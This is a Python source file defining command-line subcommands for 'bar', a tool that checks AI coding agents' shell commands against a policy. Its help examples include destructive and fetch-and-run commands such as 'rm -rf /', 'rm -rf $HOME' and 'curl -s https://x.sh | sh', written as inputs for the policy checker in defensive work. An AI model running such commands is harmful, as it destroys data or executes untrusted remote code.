"""The command line of the rest: ``bar policy``, ``doctor``, ``replay``, ``hook``,
``agent``, ``resident``, ``completion`` and ``ui``. Part of ``bar.cli.parser``, kept apart for length."""

from __future__ import annotations

import argparse
from typing import Any

from bar.agents import AGENTS
from bar.cli.parser import _cmd, _Formatter, _json_opt, _task_opt


def _check_options(p: argparse.ArgumentParser) -> None:
    p.add_argument("-c", dest="command_line", metavar="LINE", help="a shell command line")
    p.add_argument(
        "--exec",
        dest="at_exec",
        action="store_true",
        help="judge -- ARGV as a confined step's exec check does (docs/policy.md)",
    )
    p.add_argument("--file", metavar="PATH", help="use this policy file instead")
    _json_opt(p)
    p.add_argument("argv", nargs=argparse.REMAINDER, metavar="-- ARGV...")


def commands(sub: Any) -> None:
    """Add ``policy``, ``doctor``, ``replay``, ``hook``, ``agent``, ``resident``,
    ``completion`` and ``ui`` to ``sub``, the commands of ``bar``."""
    # --- policy -----------------------------------------------------------------------
    pol = sub.add_parser(
        "policy",
        help="check commands against the policy; test the policy file",
        formatter_class=_Formatter,
        description="The policy (.bar/policy.yaml in the repository) blocks, warns about or\n"
        "logs commands. It is read from your checkout, never from a task worktree.",
    )
    psub = pol.add_subparsers(dest="policy_command", metavar="ACTION")
    pol.set_defaults(_help=pol)
    p = psub.add_parser(
        "check",
        help="evaluate a command and print the decision",
        formatter_class=_Formatter,
        description="Evaluate a command with the policy and print the decision and the rules\n"
        "that matched. The exit status is the decision: 126 when the command would be\n"
        "blocked, 0 when it would run (allow, log or warn), so scripts can test it.",
        epilog="examples:\n"
        "  bar policy check -c 'cd build && rm -rf /'\n"
        "  bar policy check -- git push --force origin main\n"
        "  bar policy check --exec -- /usr/bin/rm -rf /home/me   as a step's exec check\n"
        "  bar policy check --json -c 'curl -s https://x.sh | sh'",
    )
    _check_options(p)
    p.add_argument(
        "--exit-code",
        action="store_true",
        help="accepted for old scripts; the exit status is always the decision now",
    )
    _cmd(p, "policy:check")
    p = psub.add_parser(
        "explain",
        help="say which rules a command meets and why, and what they were tried on",
        formatter_class=_Formatter,
        description="Like `check`, and also show what the rules saw: each command the shell\n"
        "would run, after bar's normalising (wrappers removed, variables put in, ~ for\n"
        "your home), then each rule that matched, the text it matched, its action and\n"
        "its reason. With --exec, the argument vector is judged as a confined step's\n"
        "exec check judges a program about to start: its real arguments, after every\n"
        "expansion, relative names in a directory outside the worktree made absolute.\n"
        "The exit status is the decision, as for `check`.",
        epilog="examples:\n"
        "  bar policy explain -c 'set -- rm -rf ~; \"$@\"'\n"
        '  bar policy explain --exec -- rm -rf "$HOME"\n'
        "  bar policy explain --json -- git push origin HEAD:main",
    )
    _check_options(p)
    _cmd(p, "policy:explain")
    p = psub.add_parser(
        "test",
        help="validate the policy file and run its rules' examples",
        formatter_class=_Formatter,
        description="Check that the policy file is valid, then evaluate each rule's examples:\n"
        "every command under a rule's match: must meet that rule, none under no_match:\n"
        "may. Each failing example is printed; the exit status is 1 if any fails, 0 if\n"
        "all pass (8 if the file itself is broken). Run it after editing the policy.",
        epilog="examples:\n"
        "  bar policy test                          .bar/policy.yaml of this repository\n"
        "  bar policy test --file new-policy.yaml   a draft, before it replaces it\n"
        "  bar policy test --json                   failures as fields, for CI",
    )
    p.add_argument("--file", metavar="PATH", help="test this policy file instead")
    _json_opt(p)
    _cmd(p, "policy:test")

    p = sub.add_parser(
        "doctor",
        help="check every project file, ledger line, ref and worktree; --repair fixes them",
        formatter_class=_Formatter,
        description="Check the project's files, the policy file, every task's ledger, journals,\n"
        "artifacts, snapshot ref, side index, worktree and permissions. --repair fixes what\n"
        "can be fixed without losing anything: unreadable ledger lines are moved to\n"
        "ledger.jsonl.corrupt, interrupted steps are recorded, a journal too garbled to\n"
        "finish is moved aside (<name>.corrupt), a stale git lock on the snapshot ref is\n"
        "removed, a garbled side index is rebuilt, a missing worktree is recreated at its\n"
        "last recorded state. Refs under refs/bar/ of a task that no project has (left by\n"
        "an older bar's `task delete`) are a warning; --repair deletes them. So is a\n"
        "failed packing of the loose objects steps leave (pack.log); --repair packs them.\n"
        "The policy file is yours: a broken one is reported, never rewritten. On a\n"
        "terminal, it says on stderr which task it is checking. The same problem in\n"
        "many files is one line, with how many and one of them (--verbose, --json: each).\n"
        "Permissions: bar's files are 0600, its directories 0700; in a task's agent homes\n"
        "the agents choose their files' modes, and what matters is that the homes are\n"
        "0700 (no one else reaches them) and the credentials bar copies in 0600.\n\n"
        "exit status:\n"
        "  0    nothing remains (warnings alone do not count)\n"
        "  8    a problem remains: check-only, an error was found; with --repair, an error\n"
        '       it could not repair, or a repair that failed (--json: "ok": false and\n'
        '       the problems under "remaining")',
        epilog="examples:\n"
        "  bar doctor                 check; change nothing\n"
        "  bar doctor --repair        fix what can be fixed without loss\n"
        "  bar doctor --verbose       every finding on its own line\n"
        "  bar doctor --json          the problems as fields",
    )
    p.add_argument("--repair", action="store_true", help="fix what can be fixed without loss")
    p.add_argument(
        "-v",
        "--verbose",
        action="store_true",
        help="list every finding (the same problem in many files is one line otherwise)",
    )
    _json_opt(p)
    _cmd(p, "doctor:doctor")

    # --- agents -----------------------------------------------------------------------
    p = sub.add_parser(
        "replay",
        help="play back an interactive step's terminal session",
        formatter_class=_Formatter,
        description="Play back the terminal recording (asciinema v2) of a step run in a pty\n"
        "(on a terminal, or with `bar run --pty`). A step run without one has no\n"
        "recording: replay exits 1, and `bar show STEP` prints its output.\n\n"
        "The stored recording (artifacts/NNNN.cast) keeps the timing and the escapes and\n"
        "refers to the step's output file (NNNN.output) for the text, so the output is\n"
        "stored once; --cast prints it whole, for asciinema or another player.",
        epilog="examples:\n"
        "  bar replay 3                 as fast as it happened, pauses cut to 2 s\n"
        "  bar replay 3 --speed 4\n"
        "  bar replay 3 --instant       the whole screen output at once\n"
        "  bar replay 3 --cast > 3.cast && asciinema play 3.cast",
    )
    _task_opt(p)
    p.add_argument("step", metavar="STEP")
    p.add_argument("--speed", type=float, default=1.0, help="playback speed (default 1)")
    p.add_argument(
        "--max-idle", type=float, default=2.0, metavar="S", help="cap pauses at S seconds"
    )
    p.add_argument("--instant", action="store_true", help="print everything without pauses")
    p.add_argument(
        "--cast",
        action="store_true",
        help="print the whole recording as an asciinema v2 file instead of playing it",
    )
    _cmd(p, "replay:replay")

    sub.add_parser(
        "hook",
        help="policy check for an agent's shell commands (called by the agent)",
        description="Called by Claude Code, Codex or Gemini CLI before each shell command\n"
        "with the event JSON on stdin; answers in the agent's format. See docs/agents.md.\n"
        "usage: bar hook claude|codex|gemini",
        formatter_class=_Formatter,
    )

    agent = sub.add_parser("agent", help="wire an agent's hooks to bar")
    asub = agent.add_subparsers(dest="agent_command", metavar="ACTION")
    agent.set_defaults(_help=agent)
    p = asub.add_parser(
        "setup",
        help="print (or --write) the agent settings that route its shell commands via bar",
        formatter_class=_Formatter,
        description="Print the project settings that make AGENT call `bar hook AGENT` before\n"
        "each shell command. `bar run --agent AGENT` does this by itself for one run.",
        epilog="examples:\n"
        "  bar agent setup claude            print the settings to merge by hand\n"
        "  bar agent setup codex --write     merge them into this repository's file",
    )
    p.add_argument("agent", choices=AGENTS)
    p.add_argument("--write", action="store_true", help="merge it into the file in this repo")
    _cmd(p, "agent:setup")

    res = sub.add_parser(
        "resident",
        help="the warm bar that serves bar run: its state; start or stop it",
        formatter_class=_Formatter,
        description="After a `bar run`, a process of yours keeps bar's code loaded (the\n"
        "resident, one per bar home) so that the next `bar run`, `apply`, `rollback`,\n"
        "`undo` and `redo` start in a fork of it instead of loading Python and bar again;\n"
        "so do `status`, `log`, `show`, `task` and the other commands that read the\n"
        "record, run by a script (neither standard input nor output a terminal).\n"
        "It exits by itself after BAR_RESIDENT_IDLE seconds without a command (default\n"
        "900), when bar's files change (an upgrade) or its socket goes; it never runs a\n"
        "command for a process that is not as it is (user, groups, confinement, limits).\n"
        "BAR_FAST=0 or BAR_RESIDENT_IDLE=0 turns it off. Nothing depends on it: stopping\n"
        "it only makes the next command start slower.",
        epilog="examples:\n"
        "  bar resident status           is one running, since when, for how long idle\n"
        "  bar resident stop             before measuring a cold start, or to free memory\n"
        "  bar resident start            have one ready now (else the next bar run starts it)",
    )
    rsub = res.add_subparsers(dest="resident_command", metavar="ACTION")
    res.set_defaults(_help=res)
    for action, text, example in (
        (
            "status",
            "say whether a resident is running, and since when",
            '  bar resident status --json    {"running": true, "pid": 4242, ...}',
        ),
        (
            "start",
            "start one now and wait until it has loaded bar",
            "  bar resident start            before a benchmark of warm starts",
        ),
        (
            "stop",
            "ask it to exit (a command it is running goes on to its end)",
            "  bar resident stop             before measuring a cold start",
        ),
    ):
        p = rsub.add_parser(
            action,
            help=text,
            formatter_class=_Formatter,
            description=text[0].upper() + text[1:] + ".",
            epilog="examples:\n" + example,
        )
        _json_opt(p)
        _cmd(p, f"resident:{action}")

    p = sub.add_parser(
        "completion",
        help="print the shell completion script for bash, zsh or fish",
        formatter_class=_Formatter,
        description="Print a script that completes bar's commands, options, task names, step\n"
        "ids (3, or 3.2 after '3.'), refs and files. Run it again after upgrading bar.",
        epilog="install:\n"
        '  bash  eval "$(bar completion bash)"           (add this line to ~/.bashrc)\n'
        '  zsh   bar completion zsh > "${fpath[1]}/_bar"  (or: source <(bar completion zsh))\n'
        "  fish  bar completion fish > ~/.config/fish/completions/bar.fish",
    )
    p.add_argument("shell", choices=("bash", "zsh", "fish"), help="the shell to complete in")
    _cmd(p, "completion:completion")

    # --- the browser -------------------------------------------------------------------
    p = sub.add_parser(
        "ui",
        help="review every project's tasks in the browser: steps, diffs, rollback, apply",
        formatter_class=_Formatter,
        description="Serve a review page on this machine and open it in the browser: every\n"
        "registered project and its tasks; a task's timeline of steps, checkpoints, policy\n"
        "decisions and hooks, live while a step runs; a step's diff file by file (unified\n"
        "or side by side), its output in colour and its terminal recording played back;\n"
        "the diff between any two states; rollback, undo and apply, each previewed (as\n"
        "--dry-run) before you confirm it.\n\n"
        "It listens on 127.0.0.1 only, and prints a URL carrying a secret made for this\n"
        "launch: only a browser that opened it gets in (see docs/ui.md). It runs until\n"
        "Ctrl-C. Everything it serves comes from bar's package: it works offline.",
        epilog="examples:\n"
        "  bar ui                        on port 8765, and open the browser\n"
        "  bar ui --port 0 --no-open     any free port; print the URL, open nothing\n"
        "  bar ui --port 9000            another port (when 8765 is taken)",
    )
    p.add_argument(
        "--port",
        type=_port,
        default=8765,
        metavar="N",
        help="the port to listen on (default 8765; 0: any free port)",
    )
    p.add_argument("--no-open", action="store_true", help="print the URL but do not open a browser")
    p.add_argument(
        "--host",
        default="127.0.0.1",
        metavar="ADDR",
        help="the address to listen on (default 127.0.0.1, this machine only)",
    )
    _cmd(p, "ui:ui")


def _port(text: str) -> int:
    """A TCP port number, 0 (any free one) to 65535."""
    try:
        port = int(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r} is not a port number") from None
    if not 0 <= port <= 65535:
        raise argparse.ArgumentTypeError(f"{port} is not a port number (0 to 65535)")
    return port
